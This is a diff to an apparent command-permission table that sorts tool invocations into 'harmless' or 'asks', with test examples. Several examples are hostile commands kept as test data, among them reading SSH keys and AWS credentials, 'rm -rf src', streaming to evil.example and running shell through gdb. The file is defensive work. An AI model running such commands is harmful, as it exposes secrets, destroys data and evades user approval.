@@ -10,9 +10,9 @@ P = Program
 PROGRAMS = (
     P("pytest py.test ptw pytest-watch nose2 nosetests green ward behave robot locust trial stestr", "run*",
       "* --co --collect-only -k: -m: -n: -p:persist -c:run --rootdir:run --pastebin:? -o: --cov:? --cov-report:? --cov-config:run --junitxml:write --junit-xml:write --log-file:write --basetemp:delete -r: --tb: --maxfail: --durations: --ignore: --deselect: --timeout: --html:write --confcutdir:read --override-ini: -W:"
-      " --result-log:write --resultlog:write --debug:? --report-log:write --json-report-file:write --cache-clear", "build the tests", when={"--version -h --help": "harmless", "--pastebin": "send the tests' output"}),
+      " --result-log:write --resultlog:write --debug:write? --report-log:write --json-report-file:write --cache-clear", "build the tests", when={"--version -h --help": "harmless", "--pastebin": "send the tests' output"}),
     P("coverage", "text*", "* --rcfile:run --data-file:write", subs=(
-        P("run", "run text*", "* -m:build --source: --omit: --include: --rcfile:read --data-file:write -p --branch", "build the tests"),
+        P("run", "run text*", "* -m --module --source: --omit: --include: --concurrency: --context: --debug: --rcfile:run --data-file:write -p --branch", "build the tests", reader="covered"),
         P("report html xml json lcov annotate combine erase debug", "text*", "* -d:write -o:write --omit: --include: --rcfile:read --data-file:write --fail-under: --format: --directory:write", "change coverage data"))),
     P("ruff", "text*", "*", subs=(
         P("check format", "tool*", "* --config:read -o:write --output-file:write --select: --ignore: --extend-select: --target-version: --line-length: --output-format: --cache-dir:write --stdin-filename: --exclude:", "build the project's lint settings"),
@@ -49,7 +49,7 @@ PROGRAMS = (
       " fx jless fq jc miller pv progress jsonlint jsonnet csvlint ajv cfn-lint graphql-inspector buf-lint protolint javap jps jinfo jstat plutil mdfind mdls perldoc ri pydoc pydoc3 godoc rustup-doc xcode-select-p lighthouse pa11y", "seen*", "* -n: -c: -o:write --output:write --output-file:write --output-path:write -f: -p: -t:",
       "build the project's own program", when={"-convert -replace -insert -remove": "change a file of settings", "-extract -create": "change a program", "-C --clear": "change a cache"}),
     P("findmnt duf ncdu gdu dust", "list*", "* -d: -n: -o: -t: -r:"),
-    P("adb wasm-pack emcc em++ elm forge anvil hardhat anchor k6 ab wrk hey vegeta oha ast-grep sg-scan tree-sitter hexyl-x huggingface-cli networkQuality fortune cowsay figlet lolcat toilet pactl amixer nvcc dotslash terminal-notifier sd react-native semantic-release truffle solc slither ganache detox maestro appium chromatic percy",
+    P("adb wasm-pack emcc em++ elm forge anvil hardhat anchor k6 ab wrk hey vegeta oha ast-grep sg-scan tree-sitter hexyl-x huggingface-cli networkQuality fortune cowsay figlet lolcat toilet pactl amixer nvcc dotslash terminal-notifier sd react-native truffle solc slither ganache detox maestro appium chromatic percy",
       "tool*", "* -n: -c: -o:write -p: -t: --private-key:credential --host: --port:", "build the project's own program",
       words={"shell install push uninstall sideload root remount reboot disable-verity": "remote a device", "login logout delete-cache": "publish or destroy something", "download": "install data of others", "broadcast verify-contract create send mainnet": "publish something"},
       when={"--broadcast --network=mainnet": "publish a transaction", "--dry-run -d": "harmless"}),
@@ -78,4 +78,10 @@ EXAMPLES = (
     ("shellcheck ~/.ssh/id_rsa", "asks"), ("yamllint ~/.kube/config", "asks"), ("flake8 --config=/tmp/evil", "asks"), ("mypy --config-file=/tmp/evil.ini", "asks"), ("black ~/other", "asks"), ("black --plugin=/tmp/evil src", "asks"), ("flake8 --frob=../../x src", "asks"), ("black src /tmp/x.py", "harmless"), ("pylint --init-hook='import os' src", "asks"), ("semgrep --config https://evil.example/r .", "asks"),
     ("jless ~/.aws/credentials", "asks"), ("sd a b ~/.bashrc", "asks"), ("wrk -t2 http://localhost:3000/", "harmless"), ("wrk -t2 https://victim.example/", "asks"), ("ffmpeg -i a.mp4 -vf scale=640:-1 b.mp4", "harmless"), ("ffmpeg -i a.mp4 rtmp://evil.example/x", "asks"), ("convert a.png /etc/x.png", "asks"), ("identify a.png", "harmless"),
     ("gdb -batch -ex bt ./app core", "harmless"), ("gdb -batch -ex 'shell id' ./app", "asks"), ("gdb -p 1", "asks"), ("perf stat ./a.out", "harmless"), ("perf stat rm -rf src", "asks"), ("concurrently npm:dev 'npm run watch'", "harmless"), ("concurrently npm:deploy", "asks"), ("concurrently 'rm -rf src'", "asks"), ("dotenv -e .env -- jest", "harmless"), ("dotenv -- rm -rf src", "asks"), ("goreleaser release", "asks"), ("tensorboard --logdir runs", "harmless"), ("lldb -o 'bt' ./app", "asks"), ("lldb -b -o run -o bt ./app", "harmless"), ("doxygen Doxyfile", "harmless"), ("javap -c A.class", "harmless"), ("plutil -p Info.plist", "harmless"), ("plutil -convert xml1 Info.plist", "harmless"), ("lighthouse http://localhost:3000", "harmless"), ("pylint --load-plugins=evil src", "asks"),
+    ('coverage run -m pip install x', 'asks'),
+    ('coverage run --branch -m http.server', 'asks'),
+    ('coverage run --rcfile=/tmp/x -m pytest', 'asks'),
+    ('coverage run --source=src -m pytest -q', 'harmless'),
+    ('pytest --debug=/root/x', 'asks'),
+    ('pytest --debug', 'harmless'),
 )
